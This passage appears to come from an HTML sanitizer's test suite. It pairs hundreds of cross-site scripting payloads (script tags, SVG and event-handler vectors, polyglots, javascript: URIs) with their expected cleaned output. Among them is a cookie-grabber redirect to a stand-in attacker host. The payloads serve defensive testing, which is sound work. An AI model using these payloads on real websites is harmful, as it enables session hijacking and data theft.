    html: '<value><![CDATA[<script>confirm(document.domain)</script>]]></value>',
    cleaned: 'confirm(document.domain)]]&gt;',
  },
  { html: '<html>', cleaned: '' },
  { html: '<body>', cleaned: '' },
  { html: '</body>', cleaned: '' },
  { html: '<?xml version="1.0" standalone="no"?>', cleaned: '' },
  { html: '<svg version="1.1" baseProfile="full" xmlns="http://www.w3.org/2000/svg">', cleaned: '' },
  { html: '<script type="text/javascript">', cleaned: '' },
  { html: '</svg>', cleaned: '' },
  { html: '<polygon id="lightning" points="0,100 50,25 50,75 100,0" fill="#ff1919" stroke="#ff0000"/>', cleaned: '' },
  { html: "<foreignObject><script>alert('svg foreignObject')</script></foreignObject>", cleaned: '' },
  {
    html: '<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(\'svg foreignObject iframe\');" width="400" height="250"/>',
    cleaned: '',
  },
  { html: "<title><script>alert('svg title')</script></title>", cleaned: '' },
  { html: '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>', cleaned: '' },
  { html: '<svg><foreignObject><![CDATA[</foreignObject><script>alert(2)</script>]]></svg>', cleaned: ']]&gt;' },
  {
    html: '<svg width="200" height="200" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">',
    cleaned: '',
  },
  { html: '<use xlink:href="http://10.10.10.10:9999/red_lightning_xss_full.svg#lightning"/>', cleaned: '' },
  { html: '<svg x="10">', cleaned: '' },
  { html: '<script type="text/javascript">alert(\'sub-svg 1\');</script>', cleaned: '' },
  { html: '<rect x="10" y="10" height="100" width="100" style="fill: #ED2939"/>', cleaned: '' },
  {
    html: '[a](javascript:prompt(document.cookie))\n[a](j a v a s c r i p t:prompt(document.cookie))\n[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K)\n[a](javascript:window.onerror=alert;throw%201)',
    cleaned:
      '[a](javascript:prompt(document.cookie))\n[a](j a v a s c r i p t:prompt(document.cookie))\n[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K)\n[a](javascript:window.onerror=alert;throw%201)',
  },
  { html: '<input type=button value="Click Me" id="btn">', cleaned: '' },
  { html: '"url": "javascript:confirm(\'XSS\')",', cleaned: '"url": "javascript:confirm(\'XSS\')",' },
  {
    html: "<script>document.location='http://[ATTACKER.DOMAIN.TLD]/XSS/grabber.php?c='+document.domain</script>",
    cleaned: '',
  },
  { html: '<ScrIPt>alert(1)</ScRipT>', cleaned: '' },
  { html: "<script x>alert('XSS')<script y>", cleaned: '' },
  {
    html: '| `\\uFF1C` (%EF%BC%9C)    | FULLWIDTH LESS­THAN SIGN      | <     | LESS­THAN       |',
    cleaned: '| `\\uFF1C` (%EF%BC%9C)    | FULLWIDTH LESS­THAN SIGN      | &lt;     | LESS­THAN       |',
  },
  {
    html: 'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
    cleaned: 'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0D%0A//\\x3csVg/\\x3e',
  },
  {
    html: '" onclick=alert(1)//<button ‘ onclick=alert(1)//> */ alert(1)//',
    cleaned: '" onclick=alert(1)// */ alert(1)//',
  },
  { html: '<svg%0Ao%00nload=%09((pro\\u006dpt))()//', cleaned: '' },
  {
    html: 'javascript:"/*\'/*`/*\\" /*</title></style></textarea></noscript></noembed></template></script/-->&lt;svg/onload=/*<html/*/onmouseover=alert()//>',
    cleaned: 'javascript:"/*\'/*`/*\\" /*&lt;svg/onload=/*',
  },
  {
    html: 'javascript:`//"//\\"//</title></textarea></style></noscript></noembed></script></template>&lt;svg/onload=\'/*--><html */ onmouseover=alert()//\'>`',
    cleaned: 'javascript:`//"//\\"//&lt;svg/onload=\'/*--&gt;`',
  },
  // payloadbox/xss-payload-list
  { html: '<image src =q onerror=prompt(8)>', cleaned: '' },
  { html: '<x onmousemove=alert(1)>hover this!', cleaned: 'hover this!' },
  { html: '<x o%6Exxx=1', cleaned: '' },
  { html: '<x%2Fonxxx=1', cleaned: '' },
  { html: '`-alert(1)">\'onload="`<svg/1=\'', cleaned: '`-alert(1)"&gt;\'onload="`' },
  { html: '<form><input formaction=javascript:alert(1) type=image value=click>', cleaned: '' },
  { html: '<body onorientationchange=alert(1)>', cleaned: '' },
  { html: '<marquee loop=1 width=0 onfinish=alert(1)>', cleaned: '' },
  { html: '<a draggable="true" ondragend="alert(1)">test</a>', cleaned: '<a>test</a>' },
  { html: '<a onbeforepaste="alert(1)" contenteditable>test</a>', cleaned: '<a>test</a>' },
  { html: '<a onmouseenter="alert(1)">test</a>', cleaned: '<a>test</a>' },
  { html: '<abbr id=x tabindex=1 onactivate=alert(1)></abbr>', cleaned: '<abbr id="x"></abbr>' },
  { html: '<abbr oncopy="alert(1)" contenteditable>test</abbr>', cleaned: '<abbr>test</abbr>' },
  { html: '<acronym id=x tabindex=1 onfocus=alert(1)></acronym>', cleaned: '<acronym id="x"></acronym>' },
  { html: '<acronym onkeydown="alert(1)" contenteditable>test</acronym>', cleaned: '<acronym>test</acronym>' },
  { html: '<address draggable="true" ondragend="alert(1)">test</address>', cleaned: '<address>test</address>' },
  { html: '<applet id=x tabindex=1 onactivate=alert(1)></applet>', cleaned: '' },
  { html: '<area id=x tabindex=1 ondeactivate=alert(1)></area><input id=y autofocus>', cleaned: '' },
  { html: '<area onkeypress="alert(1)" contenteditable>test</area>', cleaned: 'test' },
  { html: '<article draggable="true" ondragenter="alert(1)">test</article>', cleaned: '<article>test</article>' },
  {
    html: '<article onblur=alert(1) tabindex=1 id=x></article><input autofocus>',
    cleaned: '<article id="x"></article>',
  },
  { html: '<article onmouseleave="alert(1)">test</article>', cleaned: '<article>test</article>' },
  { html: '<aside id=x tabindex=1 onbeforeactivate=alert(1)></aside>', cleaned: '<aside id="x"></aside>' },
  { html: '<aside oncut="alert(1)" contenteditable>test</aside>', cleaned: '<aside>test</aside>' },
  { html: '<aside onmouseup="alert(1)">test</aside>', cleaned: '<aside>test</aside>' },
  {
    html: '<audio onloadeddata=alert(1)><source src="validaudio.wav" type="audio/wav"></audio>',
    cleaned: '<audio><source src="validaudio.wav" type="audio/wav"></audio>',
  },
  { html: '<b onblur=alert(1) tabindex=1 id=x></b><input autofocus>', cleaned: '<b id="x"></b>' },
  { html: '<base id=x tabindex=1 onbeforeactivate=alert(1)></base>', cleaned: '' },
  { html: '<basefont id=x tabindex=1 onfocusin=alert(1)></basefont>', cleaned: '' },
  { html: '<bdi draggable="true" ondragenter="alert(1)">test</bdi>', cleaned: '<bdi>test</bdi>' },
  { html: '<bdi onblur=alert(1) tabindex=1 id=x></bdi><input autofocus>', cleaned: '<bdi id="x"></bdi>' },
  { html: '<bdo id=x tabindex=1 onbeforeactivate=alert(1)></bdo>', cleaned: '<bdo id="x"></bdo>' },
  { html: '<bgsound id=x tabindex=1 onfocusin=alert(1)></bgsound>', cleaned: '' },
  { html: '<big draggable="true" ondragenter="alert(1)">test</big>', cleaned: '<big>test</big>' },
  { html: '<big onblur=alert(1) tabindex=1 id=x></big><input autofocus>', cleaned: '<big id="x"></big>' },
  { html: '<blink id=x tabindex=1 onbeforeactivate=alert(1)></blink>', cleaned: '' },
  { html: '<blockquote id=x tabindex=1 onfocusin=alert(1)></blockquote>', cleaned: '<blockquote id="x"></blockquote>' },
  { html: '<br oncontextmenu="alert(1)">test</br>', cleaned: '<br>test' },
  { html: '<button onfocusout=alert(1) id=x></button><input autofocus>', cleaned: '' },
  { html: '<canvas draggable="true" ondrag="alert(1)">test</canvas>', cleaned: 'test' },
  { html: '<canvas onbeforecut="alert(1)" contenteditable>test</canvas>', cleaned: 'test' },
  { html: '<canvas onmousedown="alert(1)">test</canvas>', cleaned: 'test' },
  { html: '<caption draggable="true" ondragstart="alert(1)">test</caption>', cleaned: '<caption>test</caption>' },
  {
    html: '<center id=x tabindex=1 ondeactivate=alert(1)></center><input id=y autofocus>',
    cleaned: '<center id="x"></center>',
  },
  {
    html: '<center onfocusout=alert(1) tabindex=1 id=x></center><input autofocus>',
    cleaned: '<center id="x"></center>',
  },
  { html: '<cite draggable="true" ondrag="alert(1)">test</cite>', cleaned: '<cite>test</cite>' },
  { html: '<code draggable="true" ondragstart="alert(1)">test</code>', cleaned: '<code>test</code>' },
  { html: '<col id=x tabindex=1 ondeactivate=alert(1)></col><input id=y autofocus>', cleaned: '<col id="x">' },
  { html: '<col onfocusout=alert(1) tabindex=1 id=x></col><input autofocus>', cleaned: '<col id="x">' },
  { html: '<colgroup draggable="true" ondrag="alert(1)">test</colgroup>', cleaned: '<colgroup>test</colgroup>' },
  { html: '<command draggable="true" ondragstart="alert(1)">test</command>', cleaned: 'test' },
  { html: '<content id=x tabindex=1 ondeactivate=alert(1)></content><input id=y autofocus>', cleaned: '' },
  { html: '<content onfocusout=alert(1) tabindex=1 id=x></content><input autofocus>', cleaned: '' },
  { html: '<data draggable="true" ondrag="alert(1)">test</data>', cleaned: 'test' },
  { html: '<datalist draggable="true" ondragstart="alert(1)">test</datalist>', cleaned: 'test' },
  { html: '<dd id=x tabindex=1 ondeactivate=alert(1)></dd><input id=y autofocus>', cleaned: '<dd id="x"></dd>' },
  { html: '<dd onfocusout=alert(1) tabindex=1 id=x></dd><input autofocus>', cleaned: '<dd id="x"></dd>' },
  { html: '<del draggable="true" ondrag="alert(1)">test</del>', cleaned: '<del>test</del>' },
  { html: '<details draggable="true" ondragstart="alert(1)">test</details>', cleaned: '<details>test</details>' },
  { html: '<dfn id=x tabindex=1 onbeforedeactivate=alert(1)></dfn><input autofocus>', cleaned: '<dfn id="x"></dfn>' },
  { html: '<dfn ondblclick="alert(1)">test</dfn>', cleaned: '<dfn>test</dfn>' },
  { html: '<dfn onpaste="alert(1)" contenteditable>test</dfn>', cleaned: '<dfn>test</dfn>' },
  { html: '<dialog onbeforecopy="alert(1)" contenteditable>test</dialog>', cleaned: 'test' },
  { html: '<dialog onkeyup="alert(1)" contenteditable>test</dialog>', cleaned: 'test' },
  { html: '<dir draggable="true" ondragleave="alert(1)">test</dir>', cleaned: 'test' },
  {
    html: '<div draggable="true" contenteditable>drag me</div><address ondrop=alert(1) contenteditable>drop here</address>',
    cleaned: '<div>drag me</div><address>drop here</address>',
  },
  {
    html: '<div draggable="true" contenteditable>drag me</div><b ondrop=alert(1) contenteditable>drop here</b>',
    cleaned: '<div>drag me</div><b>drop here</b>',
  },
  {
    html: '<div draggable="true" contenteditable>drag me</div><big ondrop=alert(1) contenteditable>drop here</big>',
    cleaned: '<div>drag me</div><big>drop here</big>',
  },
  {
    html: '<div draggable="true" contenteditable>drag me</div><canvas ondrop=alert(1) contenteditable>drop here</canvas>',
    cleaned: '<div>drag me</div>drop here',
  },
  {
    html: '<div draggable="true" contenteditable>drag me</div><colgroup ondrop=alert(1) contenteditable>drop here</colgroup>',
    cleaned: '<div>drag me</div><colgroup>drop here</colgroup>',
  },
  {
    html: '<div draggable="true" contenteditable>drag me</div><del ondrop=alert(1) contenteditable>drop here</del>',
    cleaned: '<div>drag me</div><del>drop here</del>',
  },
  {
    html: '<div draggable="true" contenteditable>drag me</div><dl ondrop=alert(1) contenteditable>drop here</dl>',
    cleaned: '<div>drag me</div><dl>drop here</dl>',
  },
  {
    html: '<div draggable="true" contenteditable>drag me</div><figcaption ondrop=alert(1) contenteditable>drop here</figcaption>',
    cleaned: '<div>drag me</div><figcaption>drop here</figcaption>',
  },
  {
    html: '<div draggable="true" contenteditable>drag me</div><frameset ondrop=alert(1) contenteditable>drop here</frameset>',
    cleaned: '<div>drag me</div>drop here',
  },
  {
    html: '<div draggable="true" contenteditable>drag me</div><html ondrop=alert(1) contenteditable>drop here</html>',
    cleaned: '<div>drag me</div>drop here',
  },
  {
    html: '<div draggable="true" contenteditable>drag me</div><ins ondrop=alert(1) contenteditable>drop here</ins>',
    cleaned: '<div>drag me</div><ins>drop here</ins>',
  },
  {
    html: '<div draggable="true" contenteditable>drag me</div><li ondrop=alert(1) contenteditable>drop here</li>',
    cleaned: '<div>drag me</div><li>drop here</li>',
  },
  {
    html: '<div draggable="true" contenteditable>drag me</div><marquee ondrop=alert(1) contenteditable>drop here</marquee>',
    cleaned: '<div>drag me</div>drop here',
  },
  {
    html: '<div draggable="true" contenteditable>drag me</div><nav ondrop=alert(1) contenteditable>drop here</nav>',
    cleaned: '<div>drag me</div><nav>drop here</nav>',
  },
  {
    html: '<div draggable="true" contenteditable>drag me</div><object ondrop=alert(1) contenteditable>drop here</object>',
    cleaned: '<div>drag me</div>drop here',
  },
  {
    html: '<div draggable="true" contenteditable>drag me</div><param ondrop=alert(1) contenteditable>drop here</param>',
    cleaned: '<div>drag me</div>drop here',
  },
  {
    html: '<div draggable="true" contenteditable>drag me</div><rb ondrop=alert(1) contenteditable>drop here</rb>',
    cleaned: '<div>drag me</div>drop here',
  },
  {
    html: '<div draggable="true" contenteditable>drag me</div><samp ondrop=alert(1) contenteditable>drop here</samp>',
    cleaned: '<div>drag me</div><samp>drop here</samp>',
  },
  {
    html: '<div draggable="true" contenteditable>drag me</div><small ondrop=alert(1) contenteditable>drop here</small>',
    cleaned: '<div>drag me</div><small>drop here</small>',
  },
  {
    html: '<div draggable="true" contenteditable>drag me</div><style ondrop=alert(1) contenteditable>drop here</style>',
    cleaned: '<div>drag me</div>',
  },
  {
    html: '<div draggable="true" contenteditable>drag me</div><tbody ondrop=alert(1) contenteditable>drop here</tbody>',
    cleaned: '<div>drag me</div><tbody>drop here</tbody>',
  },
  {
    html: '<div draggable="true" contenteditable>drag me</div><thead ondrop=alert(1) contenteditable>drop here</thead>',
    cleaned: '<div>drag me</div><thead>drop here</thead>',
  },
  {
    html: '<div draggable="true" contenteditable>drag me</div><u ondrop=alert(1) contenteditable>drop here</u>',
    cleaned: '<div>drag me</div><u>drop here</u>',
  },
  { html: '<dt id=x tabindex=1 onfocus=alert(1)></dt>', cleaned: '<dt id="x"></dt>' },
  { html: '<element draggable="true" ondragend="alert(1)">test</element>', cleaned: 'test' },
  { html: '<em id=x tabindex=1 onactivate=alert(1)></em>', cleaned: '<em id="x"></em>' },
  { html: '<embed id=x tabindex=1 onbeforedeactivate=alert(1)></embed><input autofocus>', cleaned: '' },
  { html: '<fieldset onbeforecopy="alert(1)" contenteditable>test</fieldset>', cleaned: 'test' },
  {
    html: '<figure id=x tabindex=1 onbeforedeactivate=alert(1)></figure><input autofocus>',
    cleaned: '<figure id="x"></figure>',
  },
  { html: '<font onbeforecopy="alert(1)" contenteditable>test</font>', cleaned: '<font>test</font>' },
  { html: '<footer draggable="true" ondragleave="alert(1)">test</footer>', cleaned: '<footer>test</footer>' },
  { html: '<form id=x tabindex=1 onbeforedeactivate=alert(1)></form><input autofocus>', cleaned: '' },
  { html: '<frame id=x tabindex=1 onbeforeactivate=alert(1)></frame>', cleaned: '' },
  { html: '<frame onfocusout=alert(1) tabindex=1 id=x></frame><input autofocus>', cleaned: '' },
  { html: '<head draggable="true" ondragstart="alert(1)">test</head>', cleaned: 'test' },
  {
    html: '<header id=x tabindex=1 ondeactivate=alert(1)></header><input id=y autofocus>',
    cleaned: '<header id="x"></header>',
  },
  {
    html: '<header onfocusout=alert(1) tabindex=1 id=x></header><input autofocus>',
    cleaned: '<header id="x"></header>',
  },
  { html: '<hgroup draggable="true" ondrag="alert(1)">test</hgroup>', cleaned: 'test' },
  { html: '<hr draggable="true" ondragstart="alert(1)">test</hr>', cleaned: '<hr>test' },
  { html: '<html id=x tabindex=1 ondeactivate=alert(1)></html><input id=y autofocus>', cleaned: '' },
  { html: '<html onfocusout=alert(1) tabindex=1 id=x></html><input autofocus>', cleaned: '' },
  { html: '<input onauxclick=alert(1)>', cleaned: '' },
  { html: '<input oninput=alert(1) value=xss>', cleaned: '' },
  { html: '<input onselect=alert(1) value="XSS" autofocus>', cleaned: '' },
  { html: '<isindex id=x tabindex=1 onbeforedeactivate=alert(1)></isindex><input autofocus>', cleaned: '' },
  { html: '<kbd id=x tabindex=1 onfocus=alert(1)></kbd>', cleaned: '<kbd id="x"></kbd>' },
  { html: '<keygen autofocus onfocusin=alert(1)>', cleaned: '' },
  { html: '<legend id=x tabindex=1 onbeforedeactivate=alert(1)></legend><input autofocus>', cleaned: '' },
  {
    html: '<main id=x tabindex=1 ondeactivate=alert(1)></main><input id=y autofocus>',
    cleaned: '<main id="x"></main>',
  },
  { html: '<main onfocusout=alert(1) tabindex=1 id=x></main><input autofocus>', cleaned: '<main id="x"></main>' },
  { html: '<map draggable="true" ondrag="alert(1)">test</map>', cleaned: 'test' },
  { html: '<mark draggable="true" ondragstart="alert(1)">test</mark>', cleaned: '<mark>test</mark>' },
  { html: '<marquee id=x tabindex=1 ondeactivate=alert(1)></marquee><input id=y autofocus>', cleaned: '' },
  { html: '<marquee onfocusout=alert(1) tabindex=1 id=x></marquee><input autofocus>', cleaned: '' },
  { html: '<marquee onstart=alert(1)>XSS</marquee>', cleaned: 'XSS' },
  { html: '<menu id=x tabindex=1 onfocus=alert(1)></menu>', cleaned: '' },
  { html: '<menuitem draggable="true" ondragend="alert(1)">test</menuitem>', cleaned: 'test' },
  { html: '<multicol draggable="true" ondragend="alert(1)">test</multicol>', cleaned: 'test' },
  { html: '<nextid id=x tabindex=1 onfocus=alert(1)></nextid>', cleaned: '' },
  { html: '<nobr draggable="true" ondragend="alert(1)">test</nobr>', cleaned: 'test' },
  { html: '<noframes id=x tabindex=1 onfocus=alert(1)></noframes>', cleaned: '' },
  { html: '<ol id=x tabindex=1 onbeforeactivate=alert(1)></ol>', cleaned: '<ol id="x"></ol>' },
  { html: '<optgroup id=x tabindex=1 onfocusin=alert(1)></optgroup>', cleaned: '' },
  { html: '<option onblur=alert(1) tabindex=1 id=x></option><input autofocus>', cleaned: '' },
  { html: '<output id=x tabindex=1 onbeforeactivate=alert(1)></output>', cleaned: '' },
  { html: '<param onblur=alert(1) tabindex=1 id=x></param><input autofocus>', cleaned: '' },
  { html: '<picture id=x tabindex=1 onbeforeactivate=alert(1)></picture>', cleaned: '<picture id="x"></picture>' },
  { html: '<plaintext draggable="true" ondragstart="alert(1)">test</plaintext>', cleaned: '' },
  { html: '<pre id=x tabindex=1 ondeactivate=alert(1)></pre><input id=y autofocus>', cleaned: '<pre id="x"></pre>' },
  { html: '<pre onfocusout=alert(1) tabindex=1 id=x></pre><input autofocus>', cleaned: '<pre id="x"></pre>' },
  { html: '<progress draggable="true" ondrag="alert(1)">test</progress>', cleaned: 'test' },
  { html: '<q draggable="true" ondragstart="alert(1)">test</q>', cleaned: '<q>test</q>' },
  { html: '<rb id=x tabindex=1 ondeactivate=alert(1)></rb><input id=y autofocus>', cleaned: '' },
  { html: '<rb onfocusout=alert(1) tabindex=1 id=x></rb><input autofocus>', cleaned: '' },
  { html: '<rp draggable="true" ondrag="alert(1)">test</rp>', cleaned: 'test' },
  { html: '<rt draggable="true" ondragstart="alert(1)">test</rt>', cleaned: 'test' },
  { html: '<rtc id=x tabindex=1 ondeactivate=alert(1)></rtc><input id=y autofocus>', cleaned: '' },
  { html: '<rtc onfocusout=alert(1) tabindex=1 id=x></rtc><input autofocus>', cleaned: '' },
  { html: '<ruby draggable="true" ondrag="alert(1)">test</ruby>', cleaned: 'test' },
  { html: '<s draggable="true" ondragstart="alert(1)">test</s>', cleaned: '<s>test</s>' },
  {
    html: '<samp id=x tabindex=1 ondeactivate=alert(1)></samp><input id=y autofocus>',
    cleaned: '<samp id="x"></samp>',
  },
  { html: '<samp onfocusout=alert(1) tabindex=1 id=x></samp><input autofocus>', cleaned: '<samp id="x"></samp>' },
  { html: '<section draggable="true" ondragend="alert(1)">test</section>', cleaned: '<section>test</section>' },
  { html: '<select draggable="true" ondragleave="alert(1)">test</select>', cleaned: 'test' },
  { html: '<shadow id=x tabindex=1 ondeactivate=alert(1)></shadow><input id=y autofocus>', cleaned: '' },
  { html: '<shadow onfocusout=alert(1) tabindex=1 id=x></shadow><input autofocus>', cleaned: '' },
  { html: '<slot draggable="true" ondrag="alert(1)">test</slot>', cleaned: 'test' },
  { html: '<source id=x tabindex=1 ondeactivate=alert(1)></source><input id=y autofocus>', cleaned: '<source id="x">' },
  { html: '<source onfocusout=alert(1) tabindex=1 id=x></source><input autofocus>', cleaned: '<source id="x">' },
  { html: '<spacer draggable="true" ondrag="alert(1)">test</spacer>', cleaned: 'test' },
  {
    html: '<strike id=x tabindex=1 ondeactivate=alert(1)></strike><input id=y autofocus>',
    cleaned: '<strike id="x"></strike>',
  },
  {
    html: '<strike onfocusout=alert(1) tabindex=1 id=x></strike><input autofocus>',
    cleaned: '<strike id="x"></strike>',
  },
  { html: '<strong draggable="true" ondrag="alert(1)">test</strong>', cleaned: '<strong>test</strong>' },
  {
    html: '<style>:target {color: red;}</style><article id=x style="transition:color 10s" ontransitioncancel=alert(1)></article>',
    cleaned: '<article id="x"></article>',
  },
  {
    html: '<style>:target {color: red;}</style><body id=x style="transition:color 10s" ontransitioncancel=alert(1)></body>',
    cleaned: '',
  },
  {
    html: '<style>:target {color: red;}</style><data id=x style="transition:color 10s" ontransitioncancel=alert(1)></data>',
    cleaned: '',
  },
  {
    html: '<style>:target {color: red;}</style><em id=x style="transition:color 10s" ontransitioncancel=alert(1)></em>',
    cleaned: '<em id="x"></em>',
  },
  {
    html: '<style>:target {color: red;}</style><header id=x style="transition:color 10s" ontransitioncancel=alert(1)></header>',
    cleaned: '<header id="x"></header>',
  },
  {
    html: '<style>:target {color: red;}</style><keygen id=x style="transition:color 10s" ontransitioncancel=alert(1)></keygen>',
    cleaned: '',
  },
  {
    html: '<style>:target {color: red;}</style><meta id=x style="transition:color 10s" ontransitioncancel=alert(1)></meta>',
    cleaned: '',
  },
  {
    html: '<style>:target {color: red;}</style><option id=x style="transition:color 10s" ontransitioncancel=alert(1)></option>',
    cleaned: '',
  },
  {
    html: '<style>:target {color: red;}</style><rtc id=x style="transition:color 10s" ontransitioncancel=alert(1)></rtc>',
    cleaned: '',
  },
  {
    html: '<style>:target {color: red;}</style><span id=x style="transition:color 10s" ontransitioncancel=alert(1)></span>',
    cleaned: '<span id="x"></span>',
  },
  {
    html: '<style>:target {color: red;}</style><textarea id=x style="transition:color 10s" ontransitioncancel=alert(1)></textarea>',
    cleaned: '',
  },
  {
    html: '<style>:target {color: red;}</style><video id=x style="transition:color 10s" ontransitioncancel=alert(1)></video>',
    cleaned: '<video id="x"></video>',
  },
  {
    html: '<style>:target {color:red;}</style><b id=x style="transition:color 1s" ontransitionend=alert(1)></b>',
    cleaned: '<b id="x"></b>',
  },
  {
    html: '<style>:target {color:red;}</style><canvas id=x style="transition:color 1s" ontransitionend=alert(1)></canvas>',
    cleaned: '',
  },
  {
    html: '<style>:target {color:red;}</style><del id=x style="transition:color 1s" ontransitionend=alert(1)></del>',
    cleaned: '<del id="x"></del>',
  },
  {
    html: '<style>:target {color:red;}</style><figcaption id=x style="transition:color 1s" ontransitionend=alert(1)></figcaption>',
    cleaned: '<figcaption id="x"></figcaption>',
  },
  {
    html: '<style>:target {color:red;}</style><html id=x style="transition:color 1s" ontransitionend=alert(1)></html>',
    cleaned: '',
  },
  {
    html: '<style>:target {color:red;}</style><li id=x style="transition:color 1s" ontransitionend=alert(1)></li>',
    cleaned: '<li id="x"></li>',
  },
  {
    html: '<style>:target {color:red;}</style><nav id=x style="transition:color 1s" ontransitionend=alert(1)></nav>',
    cleaned: '<nav id="x"></nav>',
  },
  {
    html: '<style>:target {color:red;}</style><param id=x style="transition:color 1s" ontransitionend=alert(1)></param>',
    cleaned: '',
  },
  {
    html: '<style>:target {color:red;}</style><samp id=x style="transition:color 1s" ontransitionend=alert(1)></samp>',
    cleaned: '<samp id="x"></samp>',
  },
  {
    html: '<style>:target {color:red;}</style><style id=x style="transition:color 1s" ontransitionend=alert(1)></style>',
    cleaned: '',
  },
  {
    html: '<style>:target {color:red;}</style><thead id=x style="transition:color 1s" ontransitionend=alert(1)></thead>',
    cleaned: '<thead id="x"></thead>',
  },
  {
    html: '<style>:target {transform: rotate(180deg);}</style><a id=x style="transition:transform 2s" ontransitionrun=alert(1)></a>',
    cleaned: '<a id="x"></a>',
  },
  {
    html: '<style>:target {transform: rotate(180deg);}</style><bdi id=x style="transition:transform 2s" ontransitionrun=alert(1)></bdi>',
    cleaned: '<bdi id="x"></bdi>',
  },
  {
    html: '<style>:target {transform: rotate(180deg);}</style><cite id=x style="transition:transform 2s" ontransitionrun=alert(1)></cite>',
    cleaned: '<cite id="x"></cite>',
  },
  {
    html: '<style>:target {transform: rotate(180deg);}</style><dialog id=x style="transition:transform 2s" ontransitionrun=alert(1)></dialog>',
    cleaned: '',
  },
  {
    html: '<style>:target {transform: rotate(180deg);}</style><footer id=x style="transition:transform 2s" ontransitionrun=alert(1)></footer>',
    cleaned: '<footer id="x"></footer>',
  },
  {
    html: '<style>:target {transform: rotate(180deg);}</style><image id=x style="transition:transform 2s" ontransitionrun=alert(1)></image>',
    cleaned: '',
  },
  {
    html: '<style>:target {transform: rotate(180deg);}</style><main id=x style="transition:transform 2s" ontransitionrun=alert(1)></main>',
    cleaned: '<main id="x"></main>',
  },
  {
    html: '<style>:target {transform: rotate(180deg);}</style><noembed id=x style="transition:transform 2s" ontransitionrun=alert(1)></noembed>',
    cleaned: '',
  },
  {
    html: '<style>:target {transform: rotate(180deg);}</style><pre id=x style="transition:transform 2s" ontransitionrun=alert(1)></pre>',
    cleaned: '<pre id="x"></pre>',
  },
  {
    html: '<style>:target {transform: rotate(180deg);}</style><select id=x style="transition:transform 2s" ontransitionrun=alert(1)></select>',
    cleaned: '',
  },
  {
    html: '<style>:target {transform: rotate(180deg);}</style><sup id=x style="transition:transform 2s" ontransitionrun=alert(1)></sup>',
    cleaned: '<sup id="x"></sup>',
  },
  {
    html: '<style>:target {transform: rotate(180deg);}</style><tr id=x style="transition:transform 2s" ontransitionrun=alert(1)></tr>',
    cleaned: '<tr id="x"></tr>',
  },
  {
    html: '<style>@keyframes slidein {}</style><abbr style="animation-duration:1s;animation-name:slidein;animation-iteration-count:2" onanimationiteration="alert(1)"></abbr>',
    cleaned: '<abbr></abbr>',
  },
  {
    html: '<style>@keyframes slidein {}</style><bdo style="animation-duration:1s;animation-name:slidein;animation-iteration-count:2" onanimationiteration="alert(1)"></bdo>',
    cleaned: '<bdo></bdo>',
  },
  {
    html: '<style>@keyframes slidein {}</style><code style="animation-duration:1s;animation-name:slidein;animation-iteration-count:2" onanimationiteration="alert(1)"></code>',
    cleaned: '<code></code>',
  },
  {
    html: '<style>@keyframes slidein {}</style><dir style="animation-duration:1s;animation-name:slidein;animation-iteration-count:2" onanimationiteration="alert(1)"></dir>',
    cleaned: '',
  },
  {
    html: '<style>@keyframes slidein {}</style><form style="animation-duration:1s;animation-name:slidein;animation-iteration-count:2" onanimationiteration="alert(1)"></form>',
    cleaned: '',
  },
  {
    html: '<style>@keyframes slidein {}</style><img style="animation-duration:1s;animation-name:slidein;animation-iteration-count:2" onanimationiteration="alert(1)"></img>',
    cleaned: '',
  },
  {
    html: '<style>@keyframes slidein {}</style><map style="animation-duration:1s;animation-name:slidein;animation-iteration-count:2" onanimationiteration="alert(1)"></map>',
    cleaned: '',
  },
  {
    html: '<style>@keyframes slidein {}</style><noframes style="animation-duration:1s;animation-name:slidein;animation-iteration-count:2" onanimationiteration="alert(1)"></noframes>',
    cleaned: '',
  },
  {
    html: '<style>@keyframes slidein {}</style><progress style="animation-duration:1s;animation-name:slidein;animation-iteration-count:2" onanimationiteration="alert(1)"></progress>',
    cleaned: '',
  },
  {
    html: '<style>@keyframes slidein {}</style><shadow style="animation-duration:1s;animation-name:slidein;animation-iteration-count:2" onanimationiteration="alert(1)"></shadow>',
    cleaned: '',
  },
  {
    html: '<style>@keyframes slidein {}</style><svg style="animation-duration:1s;animation-name:slidein;animation-iteration-count:2" onanimationiteration="alert(1)"></svg>',
    cleaned: '',
  },
  {
    html: '<style>@keyframes slidein {}</style><track style="animation-duration:1s;animation-name:slidein;animation-iteration-count:2" onanimationiteration="alert(1)"></track>',
    cleaned: '<track>',
  },
  {
    html: '<style>@keyframes x{from {left:0;}to {left: 1000px;}}:target {animation:10s ease-in-out 0s 1 x;}</style><address id=x style="position:absolute;" onanimationcancel="alert(1)"></address>',
    cleaned: '<address id="x"></address>',
  },
  {
    html: '<style>@keyframes x{from {left:0;}to {left: 1000px;}}:target {animation:10s ease-in-out 0s 1 x;}</style><big id=x style="position:absolute;" onanimationcancel="alert(1)"></big>',
    cleaned: '<big id="x"></big>',
  },
  {
    html: '<style>@keyframes x{from {left:0;}to {left: 1000px;}}:target {animation:10s ease-in-out 0s 1 x;}</style><colgroup id=x style="position:absolute;" onanimationcancel="alert(1)"></colgroup>',
    cleaned: '<colgroup id="x"></colgroup>',
  },
  {
    html: '<style>@keyframes x{from {left:0;}to {left: 1000px;}}:target {animation:10s ease-in-out 0s 1 x;}</style><dl id=x style="position:absolute;" onanimationcancel="alert(1)"></dl>',
    cleaned: '<dl id="x"></dl>',
  },
  {
    html: '<style>@keyframes x{from {left:0;}to {left: 1000px;}}:target {animation:10s ease-in-out 0s 1 x;}</style><frameset id=x style="position:absolute;" onanimationcancel="alert(1)"></frameset>',
    cleaned: '',
  },
  {
    html: '<style>@keyframes x{from {left:0;}to {left: 1000px;}}:target {animation:10s ease-in-out 0s 1 x;}</style><ins id=x style="position:absolute;" onanimationcancel="alert(1)"></ins>',
    cleaned: '<ins id="x"></ins>',
  },
  {
